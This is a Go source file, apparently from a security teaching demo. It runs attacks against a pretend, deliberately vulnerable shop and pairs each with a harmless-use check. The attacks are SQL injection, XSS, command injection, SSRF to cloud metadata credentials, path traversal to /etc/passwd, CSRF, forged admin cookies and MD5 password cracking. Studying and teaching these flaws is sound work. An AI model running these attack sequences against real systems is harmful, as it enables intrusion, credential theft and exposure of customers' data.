package demo

import (
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
)

func loginSQL(b *browser) Shot {
	b.form("/login", ownPage, "username", loginPayload, "password", "whatever")
	p := b.get("/account")
	return Shot{Worked: p.loggedInAs() == "The shopkeeper", Evidence: "the account page greets the shopkeeper; balance " + p.balance()}
}

func loginRight(b *browser) Shot {
	b.form("/login", ownPage, "username", "ann", "password", "sunshine")
	p := b.get("/account")
	return Shot{Worked: p.loggedInAs() == "Ann Fletcher", Evidence: "the account page greets Ann Fletcher"}
}

// hashPattern finds the shopkeeper's password hash where a search shows it.
var hashPattern = regexp.MustCompile(`(?s)admin.{0,400}?\b([0-9a-f]{32})\b`)

func searchUnion(b *browser) Shot {
	p := b.get("/search?q=" + url.QueryEscape(unionPayload))
	m := hashPattern.FindStringSubmatch(p.body)
	if m == nil {
		return Shot{}
	}
	return Shot{Worked: true, Evidence: "the results show admin's hash " + m[1]}
}

func searchApostrophe(b *browser) Shot {
	p := b.get("/search?q=" + url.QueryEscape("O'Brien's mug"))
	return p.shows("the mug is found", `href="/product/obriens-mug"`)
}

func searchAmpersand(b *browser) Shot {
	p := b.get("/search?q=" + url.QueryEscape("tea & honey"))
	return p.shows("the page shows what was searched for", "tea & honey")
}

func reflectedXSS(b *browser) Shot {
	script := "<script>document.title='" + marker() + "'</script>"
	p := b.send(http.MethodGet, "/search?q="+url.QueryEscape(script), evilPage, "", "")
	return p.shows("the page holds the script as it was sent", script)
}

const reviewed = "/product/obriens-mug"

func storedXSS(b *browser) Shot {
	b.join()
	script := "<script>document.title='" + marker() + "'</script>"
	b.form(reviewed+"/reviews", ownPage, "text", "Lovely glaze. "+script)
	p := b.get(reviewed)
	b.takeBack(p)
	return p.shows("the product's page holds the script for every visitor", script)
}

// honestReview is written by whoever joined for the attack.
func honestReview(b *browser) Shot {
	b.join()
	m := marker()
	text := `I <3 this mug! The sticker says <code>tea := kettle.Pour()</code>, and it's <b>dishwasher safe</b>. ` + m
	b.form(reviewed+"/reviews", ownPage, "text", text)
	p := b.get(reviewed)
	b.takeBack(p)
	return p.shows("the product's page shows it", text)
}

var ownReview = regexp.MustCompile(`action="(/reviews/\d+/delete)"`)

// takeBack deletes the reviews that the browser's account has left.
func (b *browser) takeBack(p page) {
	for _, m := range ownReview.FindAllStringSubmatch(p.body, 3) {
		b.form(m[1], ownPage)
	}
}

func evalCommand(b *browser) Shot {
	b.join()
	b.json("/api/tools/run", "command", commandPayload)
	p := b.get("/tools")
	return p.shows("the (pretend) server has 0 files left", `<data id="files" value="0">`)
}

func menuReport(b *browser) Shot {
	p := b.json("/api/tools/run", "command", "orders.today()")
	return p.shows("the report is printed", "Best seller")
}

func pingCommand(b *browser) Shot {
	p := b.form("/tools/ping", ownPage, "host", pingPayload)
	return p.shows("the page shows root:x:0:0 of the (pretend) server", "root:x:0:0:")
}

func pingHost(b *browser) Shot {
	p := b.form("/tools/ping", ownPage, "host", "printer.example")
	return p.shows("the printer answers", "64 bytes from printer.example")
}

func metadataFetch(b *browser) Shot {
	b.json("/api/import", "url", metadataURL)
	p := b.json("/api/import", "url", metadataURL+rolePath+"shop-server-role")
	return p.shows("the answer holds the server's SecretAccessKey", "SecretAccessKey")
}

func pictureFetch(b *browser) Shot {
	p := b.json("/api/import", "url", pictureURL)
	return p.shows("the picture is fetched", "image/svg+xml")
}

func internalFetch(b *browser) Shot {
	p := b.json("/api/import", "url", internalURL)
	q := b.json("/api/import", "url", cacheURL)
	switch warehouse, cache := strings.Contains(p.body, "WAREHOUSE CONTROL"), strings.Contains(q.body, "redis_version"); {
	case warehouse && cache:
		return Shot{Worked: true, Evidence: "10.0.0.5 and localhost:6379 answer the attacker"}
	case warehouse:
		return Shot{Worked: true, Evidence: "10.0.0.5 answers the attacker"}
	default:
		return Shot{Worked: cache, Evidence: "localhost:6379 answers the attacker"}
	}
}

func pictureShown(b *browser) Shot {
	p := b.get("/import?url=" + url.QueryEscape(pictureURL))
	return p.shows("the page shows the picture", `src="/import/picture?url=`)
}

func traversal(b *browser) Shot {
	p := b.get("/download?file=" + url.QueryEscape(traversalPath))
	return p.shows("the download is the (pretend) server's /etc/passwd", "root:x:0:0:")
}

func downloadFile(b *browser) Shot {
	return b.get("/download?file=care.txt").shows("the file is downloaded", "Wash stoneware warm")
}

// spent compares the account page with what a new account is given.
func (b *browser) spent(amount cents) Shot {
	p := b.get("/account")
	left := (welcome - amount).String()
	return Shot{Worked: p.balance() == left, Evidence: fmt.Sprintf("the balance fell from %s to %s", welcome, left)}
}

func formCSRF(b *browser) Shot {
	b.join()
	b.form("/transfer", evilPage, "to", "mallory", "amount", "60")
	return b.spent(60_00)
}

func formTransfer(b *browser) Shot {
	b.join()
	b.form("/transfer", ownPage, "to", "bob", "amount", "5")
	return b.spent(5_00)
}

func linkCSRF(b *browser) Shot {
	b.join()
	b.send(http.MethodGet, "/transfer?to=mallory&amount=60", evilPage, "", "")
	return b.spent(60_00)
}

func linkTransfer(b *browser) Shot {
	b.join()
	b.get("/transfer?to=bob&amount=5")
	return b.spent(5_00)
}

func othersOrder(b *browser) Shot {
	b.join()
	return b.get("/orders/1001").shows("the page shows where Ann lives", "14 Rope Walk")
}

var orderLink = regexp.MustCompile(`href="(/orders/\d+)"`)

func ownOrder(b *browser) Shot {
	b.join()
	b.form("/buy", ownPage, "slug", "heather-honey")
	m := orderLink.FindStringSubmatch(b.get("/account").body)
	if m == nil {
		return Shot{}
	}
	return b.get(m[1]).shows("the page shows what was bought", "Heather honey")
}

func cookieRole(b *browser) Shot {
	b.join()
	b.http.Jar.SetCookies(b.base, []*http.Cookie{{
		Name: visitorCookie, Value: visitor{"shop.Visitor", "Somebody", "admin"}.encode(), Path: "/",
	}})
	return b.get("/admin").shows("the back office opens, with every customer's address", "ann.fletcher@mail.example")
}

func cookieGreeting(b *browser) Shot {
	name := b.join()
	return b.get("/").shows("the header greets its owner", "Hello, "+name)
}

// commonPasswords stands for the lists of millions that crackers use.
var commonPasswords = []string{"123456", "password", "letmein", "qwerty", "iloveyou", "sunshine", "dragon", "monkey"}

var memberHash = regexp.MustCompile(`"username":"ann"[^}]*"password":"([0-9a-f]{32})"`)

func crackMD5(b *browser) Shot {
	m := memberHash.FindStringSubmatch(b.get("/api/members").body)
	if m == nil {
		return Shot{}
	}
	i := slices.IndexFunc(commonPasswords, func(p string) bool { return hashPassword(p) == m[1] })
	if i < 0 {
		return Shot{}
	}
	b.form("/login", ownPage, "username", "ann", "password", commonPasswords[i])
	p := b.get("/account")
	return Shot{Worked: p.loggedInAs() == "Ann Fletcher", Evidence: "the hash is that of " + commonPasswords[i] + "; it logs in as Ann"}
}

func memberNames(b *browser) Shot {
	return b.get("/api/members").shows("the names are listed", "Ann Fletcher", "Bob Achebe")
}

// stackTrace must see the insides although the answer is an error.
func stackTrace(b *browser) Shot {
	p := b.get("/api/stock?product=twelve")
	return Shot{Worked: strings.Contains(p.body, "goroutine") && strings.Contains(p.body, "postgres://"),
		Evidence: "the page shows the statement, the stack and the database's password"}
}

func stockOfProduct(b *browser) Shot {
	return b.get("/api/stock?product=1").shows("the shop tells how many there are", `"stock":`)
}
